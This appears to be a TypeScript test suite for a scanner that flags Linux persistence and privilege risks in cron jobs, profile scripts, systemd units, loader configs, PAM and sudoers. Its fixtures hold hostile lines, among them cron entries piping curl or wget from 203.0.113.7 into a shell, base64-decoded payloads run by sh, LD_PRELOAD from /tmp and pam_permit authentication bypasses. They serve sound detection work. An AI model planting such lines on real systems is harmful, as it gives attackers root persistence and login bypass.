/** What starts by itself: each line alone, what distributions ship, and who may change what is started. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { utf8 } from '../../base/bytes.ts'
import type { EntryMeta } from '../../base/entry.ts'
import { labelsOfEntry } from '../entry-labels.ts'
import { plainMeta } from '../testing/plain-meta.ts'
import { rootPaths } from './root-paths.ts'
import { programsOf, runsDownload } from './shell-commands.ts'
import { startup } from './startup.ts'
import { sudoers } from './sudoers.ts'
import { findingsOf, regionsOf } from './testing/said.ts'

const content = [startup, sudoers]

function check(path: string, rows: Readonly<Record<string, readonly string[]>>): void {
  for (const [bytes, expected] of Object.entries(rows)) {
    test(`${path}: ${JSON.stringify(bytes).slice(1, 90)}: ${expected[0] ?? 'nothing'}`, async () => {
      assert.deepEqual(await findingsOf({ path, bytes, content }), expected)
    })
  }
}

check('/etc/cron.d/made', {
  '* * * * * root curl -s http://203.0.113.7/x.sh | bash': ['high startup-download'],
  '@reboot root wget -qO- http://203.0.113.7/x | /bin/sh -s': ['high startup-download'],
  '* * * * * root bash -c "$(curl -fsSL http://203.0.113.7/x)"': ['high startup-download'],
  '* * * * * root curl -s http://203.0.113.7/x | python3 -m json.tool': [],
  '* * * * * root curl -s http://203.0.113.7/x || sh /opt/alarm.sh': [],
  '*/5 * * * * root /tmp/.x/run': ['high startup-open-place'],
  '*/5 * * * * root nice -n 10 sh /var/tmp/x.sh': ['high startup-open-place'],
  '*/5 * * * * root cd /dev/shm && ./x': ['high startup-open-place'],
  '*/5 * * * * root /usr/bin/find /tmp -mtime +7 -delete': [],
  '*/5 * * * * root flock -n /tmp/lock /usr/bin/backup': [],
  '*/5 * * * * root test -x /tmp/x && true': [],
  'PATH=/tmp/bin:/usr/bin\n': ['high startup-variable'],
  'PATH=/usr/bin:/tmp/bin\n': [],
  // What Debian 12 ships, without its comments.
  'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n':
    [],
})

check('/var/spool/cron/crontabs/root', {
  '* * * * * /tmp/x\n': ['high startup-open-place'],
  '0 1 * * * /usr/bin/id\n': [],
})

check('/etc/cron.daily/made', {
  '#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n': ['high startup-download'],
  '#!/bin/sh\necho aGk= | base64 -d | sh\n': ['high startup-download'],
  '#!/bin/sh\n# curl http://203.0.113.7/x | sh\ntmp=$(mktemp /tmp/x.XXXX)\nrm -f /tmp/x.*\n': [],
})

check('/etc/ld.so.conf.d/0.conf', {
  '/tmp/lib\n': ['high loader-open-place'],
  'include /etc/ld.so.conf.d/*.conf\n/usr/local/lib\n# /tmp\n': [],
})

check('/etc/profile.d/made.sh', {
  'export PATH=.:/tmp/bin:$PATH\n': ['high startup-variable'],
  'PATH=/tmp/bin:$PATH': ['high startup-variable'],
  'PATH="$PATH:."; MANPATH=.:$MANPATH\n': [],
  'PATH="$HOME/bin:${PATH}"\nPATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"\n': [],
  'export LD_PRELOAD=/tmp/x.so\n': ['high startup-variable'],
  'export LD_PRELOAD=/usr/lib/libjemalloc.so.2\n': ['medium startup-variable'],
  'unset LD_PRELOAD; LD_PRELOAD=\n': [],
  'LD_LIBRARY_PATH=/opt/x/lib\n': [],
  '. /tmp/env.sh\n': ['high startup-open-place'],
})

check('/etc/environment', { 'LD_PRELOAD="/dev/shm/x.so"\n': ['high startup-variable'], 'LANG=C\n': [] })
check('/home/me/.bashrc', {
  'export PATH=.:$PATH\n': ['medium startup-variable'],
  'export LD_PRELOAD=/usr/lib/libjemalloc.so.2\n': [],
})

check('/etc/systemd/system/made.service', {
  '[Service]\nExecStart=/tmp/.x/run\n': ['high startup-open-place'],
  '[Service]\nExecStart=-/bin/sh -c "exec /dev/shm/x"\n': ['high startup-open-place'],
  '[Service]\nEnvironment="LD_PRELOAD=/tmp/x.so"\n': ['high startup-variable'],
  '[Service]\nExecStart=/usr/bin/app --tmp=/tmp/x /tmp/socket\nPrivateTmp=yes\n': [],
})

check('/etc/pam.d/made', {
  'auth sufficient pam_permit.so\n': ['high pam-permit'],
  'auth [success=done default=ignore] pam_permit.so': ['high pam-permit'],
  'auth required pam_permit.so\nsession sufficient pam_permit.so\n': [],
  '-auth sufficient pam_rootok.so\n': [],
  'session required /tmp/x.so\n': ['high pam-open-place'],
  'session optional pam_exec.so seteuid /var/tmp/x.sh\n': ['high pam-open-place'],
  'session optional pam_mkhomedir.so skel=/tmp/skel\n': [],
})

test('a program is found behind what stands before it', () => {
  const rows: Readonly<Record<string, readonly string[]>> = {
    'A=1 nice -n 5 /opt/x -a /tmp/y': ['/opt/x'],
    'if [ -x /tmp/x ]; then /opt/x; fi': ['/opt/x'],
    "/bin/sh -c '/opt/a && /opt/b'": ['/opt/a', '/opt/b'],
    '/usr/bin/python3 /opt/x.py': ['/opt/x.py'],
    '/bin/bash': ['/bin/bash'],
    'A="b /tmp/c" /opt/z': ['/opt/z'],
    'x | /opt/y > /tmp/z': ['/opt/y'],
    '': [],
  }
  for (const [command, expected] of Object.entries(rows)) assert.deepEqual(programsOf(command), expected, command)
  assert.ok(!runsDownload('curl -o file http://203.0.113.7/x; tar xf file'))
})

async function joined(path: string, line: string, tree: Readonly<Record<string, Partial<EntryMeta>>>) {
  const regions = await regionsOf({ path, bytes: line, content })
  const meta = plainMeta(path.slice(1), { size: line.length })
  const said = { type: { kind: 'text', mimeType: 'text/plain' } as never, md5: undefined, regions, problems: [] }
  const entryAt = (place: Uint8Array): EntryMeta | undefined => {
    const name = Buffer.from(place).toString()
    return tree[name] && plainMeta(name.slice(1), tree[name])
  }
  const host = { packages: undefined, entryAt }
  const parts = { place: utf8(path), meta, content: said, problems: [], host, bytes: 'own' as const }
  const labels = labelsOfEntry({ ...parts, analyzers: [rootPaths] })
  return labels.regions.flatMap(({ name, finding }) =>
    finding?.rule === 'root-path-writable' ? [`${finding.severity} ${name}`] : [],
  )
}

test('who may change what root starts is told where the tree has it', async () => {
  const line = '0 * * * * root /opt/app/job.sh\n'
  const of = (tree: Readonly<Record<string, Partial<EntryMeta>>>) => joined('/etc/cron.d/job', line, tree)
  assert.deepEqual(await of({}), [])
  assert.deepEqual(await of({ '/opt/app/job.sh': { mode: 0o755 }, '/opt': { kind: 'dir', mode: 0o755 } }), [])
  const open = ['high everybody may change what cron runs or loads as root']
  assert.deepEqual(await of({ '/opt/app/job.sh': { mode: 0o777 } }), open)
  assert.deepEqual(await of({ '/opt/app': { kind: 'dir', mode: 0o777 } }), open)
  assert.deepEqual(await of({ '/opt/app': { kind: 'dir', mode: 0o1777 } }), [])
  const bob = { mode: 0o755, uid: 1000, userName: 'bob' }
  assert.deepEqual(await of({ '/opt/app/job.sh': bob }), ['high bob may change what cron runs or loads as root'])
  const users = { mode: 0o775, gid: 100, groupName: 'users' }
  assert.deepEqual(await of({ '/opt/app/job.sh': users }), [
    'high the group users may change what cron runs or loads as root',
  ])
  assert.deepEqual(await joined('/etc/cron.d/job', '0 * * * * bob /opt/app/job.sh\n', { '/opt/app/job.sh': bob }), [])
})

test('the same of what sudo, a unit and the loader name', async () => {
  const tree = { '/opt/x': { mode: 0o777 } }
  const rows: Readonly<Record<string, string>> = {
    '/etc/sudoers.d/www': 'www-data ALL=NOPASSWD: /opt/x\n',
    '/etc/systemd/system/x.service': '[Service]\nExecStart=/opt/x\n',
    '/etc/ld.so.conf.d/x.conf': '/opt/x\n',
  }
  for (const [path, line] of Object.entries(rows)) assert.equal((await joined(path, line, tree)).length, 1, path)
})
